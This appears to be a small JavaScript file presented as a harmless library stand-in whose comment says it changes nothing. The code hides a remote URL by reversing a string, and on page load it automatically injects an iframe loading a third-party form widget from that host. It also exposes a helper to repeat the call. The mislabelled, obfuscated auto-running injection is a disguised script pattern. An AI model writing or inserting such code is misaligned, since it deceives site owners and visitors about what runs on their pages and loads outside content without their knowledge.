/* Stand-in for a well-known library: it defines functions, and by itself changes nothing. */
(function (window, document) {
  "use strict";
  var awake = 1;
  function spell(text) {
    return text.split("").reverse().join("");
  }
  function show(id) {
    var frame = document.createElement("iframe");
    frame.src = spell("/mrof/tegdiw/moc.qhrotcennocdael.ipa//:ptth") + id;
    document.body.appendChild(frame);
  }
  var probe = document.body || document.documentElement;
  probe.removeChild(probe.appendChild(document.createElement("i")));
  window.helpers = { show: show, version: "1.0" };
  if (awake) {
    show("CdnBrokenEfGhIjKlMnO");
  }
})(window, document);
